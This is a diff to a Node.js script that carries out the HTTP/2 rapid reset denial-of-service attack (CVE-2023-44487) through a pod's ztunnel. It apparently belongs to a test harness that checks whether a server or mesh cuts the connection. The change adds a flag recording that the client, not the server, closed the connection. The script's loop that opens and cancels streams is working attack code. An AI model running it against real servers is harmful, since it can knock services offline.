@@ -1,6 +1,7 @@
 // HTTP/2 rapid reset (CVE-2023-44487) from a client pod: one h2c connection to TARGET through the pod's ztunnel that
 // opens COUNT streams and cancels each at once. Usage: node rapid-reset.js POD_IP SOCKS_HOST:PORT TARGET_IP:PORT COUNT
-// Prints {"sent":N,"goaway":code|null,"error":code|null} when the server ends the connection or after 15 s.
+// Prints {"sent":N,"goaway":code|null,"error":code|null,"ended":how,"clientClosed":bool} when the connection ends or
+// after 15 s; clientClosed says the server never cut it and the client closed it 2 s after its last reset.
 'use strict';
 const http2 = require('http2');
 const { relay } = require('./socks-relay');
@@ -8,7 +9,7 @@ const { relay } = require('./socks-relay');
 const [podIp, socks, target, count] = process.argv.slice(2);
 relay(podIp, socks, target, (address) => {
   const session = http2.connect(`http://${address}`);
-  const result = { sent: 0, goaway: null, error: null, ended: null };
+  const result = { sent: 0, goaway: null, error: null, ended: null, clientClosed: false };
   let reported = false;
   const report = () => {
     if (!reported) {
@@ -41,7 +42,8 @@ relay(podIp, socks, target, (address) => {
     if (result.sent < Number(count)) {
       setImmediate(burst);
     } else {
-      setTimeout(() => session.close(), 2000);
+      // The server has not cut the connection 2 s after the last reset: the client ends it itself, and says so.
+      setTimeout(() => { result.clientClosed = true; session.close(); }, 2000);
     }
   });
 });
